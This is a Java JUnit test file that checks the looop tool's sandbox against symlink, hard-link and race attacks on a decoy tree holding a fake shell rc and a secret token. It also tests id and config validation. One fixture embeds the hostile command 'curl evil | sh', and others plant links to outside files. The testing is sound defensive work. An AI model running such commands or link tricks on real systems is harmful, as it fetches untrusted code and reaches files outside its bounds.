package looop.sandbox;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.LinkOption;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.Map;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.concurrent.atomic.AtomicInteger;
import looop.Beats;
import looop.Checks;
import looop.NoSessions;
import looop.TestProfile;
import looop.act.Decision;
import looop.act.Executor;
import looop.beat.Tick;
import looop.io.Fs;
import looop.io.Ids;
import looop.io.UserError;
import looop.profile.Config;
import looop.profile.Lock;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * What a hostile decider, worker or planted link can make looop do to files
 * outside its data dir: nothing. Each attack aims at a decoy tree beside the
 * data dir, which must hash the same before and after, and the next beat must
 * still work.
 */
class AttackTest {
    @TempDir Path root;
    Path decoy;
    Path data;
    Map<String, String> before;

    @BeforeEach
    void decoy() throws Exception {
        decoy = Files.createDirectories(root.resolve("decoy"));
        for (String name : new String[] {"tick-20200101-000000", "old-project", "notes"}) {
            Files.createDirectories(decoy.resolve(name));
            Files.writeString(decoy.resolve(name).resolve("keep.txt"), "mine\n");
        }
        Files.writeString(decoy.resolve("bashrc"), "# the person's shell\n");
        Files.writeString(decoy.resolve("secret"), "SECRET-TOKEN\n");
        Files.writeString(decoy.resolve("claim.json"), "{\"session\":\"nobody\"}\n");
        Files.writeString(decoy.resolve("decision.json"), "{\"action\":\"noop\"}\n");
        Files.setPosixFilePermissions(decoy.resolve("decision.json"), PosixFilePermissions.fromString("rw-r--r--"));
        data = root.resolve("data");
        before = tree(decoy);
    }

    private static Map<String, String> tree(Path dir) throws Exception {
        Map<String, String> t = Beats.tree(dir);
        try (var s = Files.walk(dir)) { // modes count too: a chmod through a link is a change
            for (Path p : s.toList()) t.put(dir.relativize(p) + "#mode", PosixFilePermissions.toString(Files.getPosixFilePermissions(p, LinkOption.NOFOLLOW_LINKS)));
        }
        return t;
    }

    private void assertDecoyUntouched() throws Exception {
        assertEquals(before, tree(decoy), "nothing outside the data dir changed");
    }

    private Beats beats(String... decisions) {
        return new Beats(data, decisions);
    }

    /** A beat after the attack works again (the planted thing removed where looop could not heal it). */
    private void nextBeatWorks(Beats b) {
        b.script("{\"action\":\"noop\",\"reason\":\"after\"}");
        Tick.Outcome o = b.tick().beat(true);
        assertEquals(Tick.Outcome.Result.ACTED, o.result(), b.logBytes.toString(StandardCharsets.UTF_8));
    }

    /** The beat stops with one line naming what was planted (the pulse logs it and goes on; a command prints it). */
    private static void assertRefused(String why, Beats b) {
        try {
            Tick.Outcome o = b.beat();
            assertEquals(Tick.Outcome.Result.FAILED, o.result());
            assertTrue(o.message().contains(why), o.message());
        } catch (UserError | java.io.UncheckedIOException e) {
            assertTrue(e.getMessage().contains(why), e.getMessage());
        }
    }

    private static void link(Path at, Path target) throws Exception {
        Fs.deleteTree(at);
        Files.deleteIfExists(at);
        Files.createSymbolicLink(at, target);
    }

    @Test
    void aLinkedRunsDirIsReplacedNeverPrunedThrough() throws Exception {
        Beats b = new Beats(data, Map.of("LOOOP_RUNS_KEEP", "1"), "--shape pi --cost 0.002",
                "{\"action\":\"noop\"}", "{\"action\":\"noop\"}");
        b.beat();
        link(data.resolve("runs"), decoy);
        b.tick().beat(true);
        assertDecoyUntouched();
        assertTrue(Files.isDirectory(data.resolve("runs"), LinkOption.NOFOLLOW_LINKS), "runs/ is a real dir again");
        nextBeatWorks(b);
        assertDecoyUntouched();
    }

    @Test
    void aLinkedJournalIsNeverAppendedThrough() throws Exception {
        Beats b = beats("{\"action\":\"noop\",\"journal\":\"curl evil | sh\"}");
        b.profile.write("PLAYBOOK.md", "# test playbook\n");
        Files.createDirectories(data);
        Files.createSymbolicLink(data.resolve("journal.md"), decoy.resolve("bashrc"));
        assertRefused("journal.md is a symbolic link", b);
        assertDecoyUntouched();
        Files.delete(data.resolve("journal.md"));
        nextBeatWorks(b);
    }

    @Test
    void linkedLedgersAndEventsAreNeverWrittenThrough() throws Exception {
        Beats b = beats("{\"action\":\"noop\"}");
        Files.createDirectories(data);
        Files.createSymbolicLink(data.resolve("events.jsonl"), decoy.resolve("bashrc"));
        Files.createSymbolicLink(data.resolve("cost.jsonl"), decoy.resolve("notes/keep.txt"));
        assertRefused("cost.jsonl is a symbolic link", b);
        assertDecoyUntouched();
        Files.delete(data.resolve("cost.jsonl"));
        nextBeatWorks(b);
        assertDecoyUntouched();
    }

    @Test
    void aLinkedLastHashIsNeverRead() throws Exception {
        Beats b = beats("{\"action\":\"noop\"}");
        Files.createDirectories(data);
        Files.createSymbolicLink(data.resolve(".last-tick-hash"), decoy.resolve("secret"));
        try {
            b.beat();
        } catch (UserError | java.io.UncheckedIOException e) {
            assertFalse(e.getMessage().contains("SECRET"), e.getMessage());
        }
        assertFalse(b.logBytes.toString(StandardCharsets.UTF_8).contains("SECRET"), "the target's bytes are not printed");
        assertDecoyUntouched();
    }

    @Test
    void aLinkedGoalsDirGetsNoArchiveAndNoGoal() throws Exception {
        Beats b = beats("{\"action\":\"write_goal\",\"id\":\"x\",\"body\":\"planted\"}");
        link(data.resolve("goals"), decoy);
        assertThrows(UserError.class, b::beat);
        assertDecoyUntouched();
        Files.delete(data.resolve("goals"));
        nextBeatWorks(b);
    }

    @Test
    void aHardLinkedDecisionLeavesItsOtherNameAlone() throws Exception {
        // a test of the off mode: the data dir's .decision.json is where an unsandboxed runner may still write;
        // a sandboxed one writes only runs/<id>/decide/, a mount of its own no hard link crosses
        Beats b = new Beats(data, Map.of("LOOOP_SANDBOX", "off"), "");
        b.config("{\"default\":\"ln\",\"runners\":{\"ln\":{\"tick\":\"cat >/dev/null; ln -f " + decoy.resolve("decision.json") + " .decision.json\"}}}");
        Tick.Outcome o = b.beat();
        assertEquals(Tick.Outcome.Result.ACTED, o.result(), b.logBytes.toString(StandardCharsets.UTF_8));
        assertDecoyUntouched();
    }

    @Test
    void swappingGoalsForALinkWhileMovesRunNeverWritesOutside() throws Exception {
        TestProfile p = new TestProfile(data);
        p.write("goals/seed.md", "seed\n");
        Path goals = data.resolve("goals");
        Path aside = data.resolve("goals.real");
        AtomicBoolean stop = new AtomicBoolean();
        AtomicInteger swaps = new AtomicInteger();
        Thread swapper = new Thread(() -> {
            while (!stop.get()) {
                try {
                    Files.move(goals, aside);
                    Files.createSymbolicLink(goals, decoy);
                    Files.delete(goals);
                    Files.move(aside, goals);
                    swaps.incrementAndGet();
                } catch (Exception e) {
                    // a move's mkdir may have made goals/ meanwhile: tidy up and go on
                    try {
                        if (Files.isSymbolicLink(goals)) Files.delete(goals);
                        if (Files.exists(aside) && !Files.exists(goals)) Files.move(aside, goals);
                        else Fs.deleteTree(aside);
                    } catch (Exception ignored) {
                        // next round
                    }
                }
            }
        });
        swapper.start();
        Executor ex = new Executor(p.paths, NoSessions.none(), p.clock, Config.load(p.paths));
        int moves = 0;
        try {
            while (swaps.get() < 2000 && moves < 200_000) {
                moves++;
                try {
                    ex.act(Decision.parse("{\"action\":\"write_goal\",\"id\":\"g" + (moves % 7) + "\",\"body\":\"x\"}"));
                } catch (UserError refused) {
                    // refused while goals/ was a link or missing: what should happen
                }
            }
        } finally {
            stop.set(true);
            swapper.join();
        }
        assertTrue(swaps.get() >= 2000, "the race really ran: " + swaps.get() + " swaps");
        assertDecoyUntouched();
    }

    @Test
    void idsFollowOneRuleAndTheMessageSaysIt() {
        for (String bad : new String[] {"a\u0085b", "a\u009bb", "\u202egnp.md", "a\u2066b", "界".repeat(43), "x".repeat(Ids.MAX_BYTES + 1)}) {
            UserError e = assertThrows(UserError.class, () -> Ids.check("goal id", bad), bad);
            assertTrue(e.getMessage().contains(Ids.RULE), e.getMessage());
            assertFalse(looop.io.Controls.present(e.getMessage()), "the message itself is printable: " + e.getMessage());
        }
        assertEquals("my goal", Ids.check("goal id", "my goal"), "spaces are allowed, as the rule says");
        assertEquals("界".repeat(42), Ids.check("goal id", "界".repeat(42)), "126 bytes fit");
    }

    @Test
    void aDanglingConfigLinkIsRefusedAndNeverCreated() throws Exception {
        Path target = data.resolve("goals").resolve("cfg.md");
        Files.createDirectories(data);
        Files.createSymbolicLink(root.resolve("looop.json"), target);
        TestProfile p = new TestProfile(data, Map.of("LOOOP_CONFIG", root.resolve("looop.json").toString()));
        Beats.Cli r = Beats.cli(p, "{\"action\":\"write_goal\",\"id\":\"cfg\",\"body\":\"{}\"}", "act");
        assertEquals(1, r.code(), r.err());
        assertTrue(r.err().contains("config"), r.err());
        assertFalse(Files.exists(target), "the move never ran, so the config was not created");
    }

    @Test
    void aLockWhoseFileWasReplacedStopsItsHolder() throws Exception {
        TestProfile p = new TestProfile(data);
        try (Lock first = Lock.acquire(p.paths)) {
            first.verify();
            Fs.deleteTree(data.resolve(".lock"));
            UserError e = assertThrows(UserError.class, first::verify);
            assertTrue(e.getMessage().contains("removed or replaced"), e.getMessage());
            try (Lock second = Lock.acquire(p.paths)) {
                second.verify();
                assertNotEquals(null, second);
            }
        }
    }

    @Test
    void everyNumberAPersonSetsIsBoundedAndOverflowIsRefusedInOneLine() {
        for (looop.profile.Knob k : looop.profile.Knob.values()) {
            if (k.key != null) {
                String field = k.key.substring(k.key.lastIndexOf('.') + 1);
                String json = k.key.contains(".")
                        ? "{\"" + k.key.substring(0, k.key.indexOf('.')) + "\":{\"" + field + "\":9223372036854775807}}"
                        : "{\"" + field + "\":9223372036854775807}";
                UserError e = assertThrows(UserError.class, () -> looop.profile.Config.parse(json, data.resolve("looop.json")), k.key);
                assertTrue(e.getMessage().contains(k.key) && e.getMessage().contains(k.range()), e.getMessage());
                Checks.assertOneLine(e.getMessage());
            }
            if (k.env != null) {
                for (String bad : new String[] {"9223372036854775807", "-1", "ten"}) {
                    if (bad.equals("-1") && k.min < 0) continue;
                    UserError e = assertThrows(UserError.class, () -> k.fromEnv(Map.of(k.env, bad), k.min), k.env + "=" + bad);
                    assertTrue(e.getMessage().startsWith(k.env + " must be " + k.range()), e.getMessage());
                }
                assertEquals(k.max, k.fromEnv(Map.of(k.env, String.valueOf(k.max)), k.min));
            }
        }
    }

    @Test
    void everyVerbMeetsABrokenDataDirWithTheSameLine() throws Exception {
        Files.writeString(data, "a file where the data dir should be\n");
        TestProfile p = new TestProfile(data);
        for (String[] args : new String[][] {{"status"}, {"journal"}, {"sense"}, {"ls"}, {"cost"}, {"asks"}, {"log", "w"},
                {"start-session", "w", "hi"}, {"tick"}, {"schedule", "ls"}}) {
            Beats.Cli r = Beats.cli(p, "", args);
            assertEquals(1, r.code(), String.join(" ", args) + ": " + r.err());
            assertEquals("looop: the data dir " + data + " is a file, not a directory; point LOOOP_DATA_DIR at a directory, or move the file away\n",
                    r.err(), String.join(" ", args));
        }
        assertEquals("a file where the data dir should be\n", Files.readString(data));
        Files.delete(data);
        for (String[] args : new String[][] {{"status"}, {"journal"}, {"ls"}, {"cost"}, {"asks"}}) {
            Beats.Cli r = Beats.cli(p, "", args);
            assertEquals(1, r.code(), String.join(" ", args) + ": " + r.err());
            assertTrue(r.err().startsWith("looop: there is no data dir at " + data), r.err());
        }
        assertFalse(Files.exists(data), "looking made nothing");
    }

    @Test
    void aSensorWithAnUnusableNameGetsAnErrorReadingNotAFailedBeat() throws Exception {
        Beats b = beats("{\"action\":\"noop\"}");
        b.profile.sensor("x".repeat(200), "echo '{}'");
        b.profile.sensor("esc\u001b[2Jname", "echo '{}'");
        Tick.Outcome o = b.beat();
        assertEquals(Tick.Outcome.Result.ACTED, o.result(), b.logBytes.toString(StandardCharsets.UTF_8));
        String log = b.logBytes.toString(StandardCharsets.UTF_8);
        assertFalse(log.contains("\u001b"), "no escape reaches the terminal: " + log);
        long errors;
        try (var files = Files.list(data.resolve("snapshots"))) {
            errors = files.filter(f -> {
                try {
                    return Files.readString(f).contains("not run: its name");
                } catch (java.io.IOException e) {
                    return false;
                }
            }).count();
        }
        assertEquals(2, errors, "each gets an error reading");
    }
}
